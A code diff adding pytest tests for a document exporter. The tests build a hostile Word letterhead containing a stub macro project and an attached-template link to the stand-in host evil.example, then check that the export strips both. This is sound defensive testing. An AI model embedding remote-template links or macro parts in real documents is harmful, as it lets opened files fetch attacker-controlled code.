@@ -88,3 +88,47 @@ def test_a_template_member_packed_like_a_zip_bomb_is_refused(
     assert re.fullmatch(rf"{re.escape(str(path))}: --template: word/media/image1\.png is packed [\d,]+ to 1 "
                         r"\(20 MB in [\d,]+ bytes\), which no real data is: it is refused unread as a ZIP bomb",
                         refused(export_draft, tmp_path, path, capsys))
+
+
+def hostile_template(tmp_path: Path) -> Path:
+    """A letterhead carrying macros and a template attached from a web address."""
+    import docx
+    from docx.opc.packuri import PackURI
+    from docx.opc.part import Part
+    from docx.oxml import parse_xml
+    from docx.oxml.ns import nsdecls
+
+    from exporters.docx.base import ATTACHED_TEMPLATE, VBA_PROJECT
+
+    document = docx.Document()
+    document.sections[0].header.paragraphs[0].text = "Harbor letterhead"
+    package = document.part.package
+    macros = Part(PackURI("/word/vbaProject.bin"), "application/vnd.ms-office.vbaProject", b"VB", package)
+    document.part.relate_to(macros, VBA_PROJECT)
+    settings = document.part._settings_part
+    rid = settings.relate_to("https://evil.example/t.dotm", ATTACHED_TEMPLATE, is_external=True)
+    settings.element.append(parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{rid}"/>'))
+    path = tmp_path / "letterhead.docx"
+    document.save(str(path))
+    return path
+
+
+def test_a_template_s_macros_and_remote_template_link_are_not_carried_into_the_export(
+        export_draft: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    import zipfile
+
+    source = hostile_template(tmp_path)
+    with zipfile.ZipFile(source) as archive:  # the test's template does carry both
+        assert "word/vbaProject.bin" in archive.namelist()
+        assert b"evil.example" in archive.read("word/_rels/settings.xml.rels")
+    out = tmp_path / "policy.docx"
+    assert main(["export", str(export_draft), "--template", str(source), "-o", str(out)]) == 0
+    printed = capsys.readouterr().out
+    assert f"{source}: its macros (vbaProject.bin) were removed: a policy document runs no code" in printed
+    assert "its link to a template outside the file (https://evil.example/t.dotm) was removed" in printed
+    with zipfile.ZipFile(out) as archive:
+        names = archive.namelist()
+        assert not any("vba" in name.lower() for name in names)
+        assert b"attachedTemplate" not in archive.read("word/settings.xml")
+        assert all(b"evil.example" not in archive.read(name) for name in names)
+        assert b"Harbor letterhead" in archive.read(next(n for n in names if n.startswith("word/header")))
